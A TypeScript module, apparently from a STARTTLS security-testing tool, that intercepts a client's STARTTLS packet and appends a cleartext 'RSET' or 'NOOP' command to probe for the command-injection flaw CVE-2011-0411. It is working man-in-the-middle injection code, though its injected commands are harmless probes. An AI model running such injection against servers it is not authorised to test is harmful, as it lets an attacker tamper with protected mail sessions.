import type { Attack } from './attack.ts'
import { intercept } from './interception.ts'

/**
 * Adds a command of the attacker's to the packet that carries the client's
 * STARTTLS. A server that keeps it in its buffer would obey it inside TLS.
 *
 * @see http://www.postfix.org/CVE-2011-0411.html
 */
export const injectCommand: Attack = {
  does: 'add "RSET" in cleartext behind the client\'s STARTTLS, in the same packet',
  start: () =>
    intercept((direction, payload) =>
      direction === 'c2s' && /^(?:\S+ )?STARTTLS\r\n$/i.test(payload.toString('latin1'))
        ? Buffer.concat([payload, Buffer.from(tagged(payload) ? 'z1 NOOP\r\n' : 'RSET\r\n')])
        : payload,
    ),
}

/** Whether the command has a tag in front, as in IMAP. */
const tagged = (payload: Buffer) => /^\S+ STARTTLS/i.test(payload.toString('latin1'))
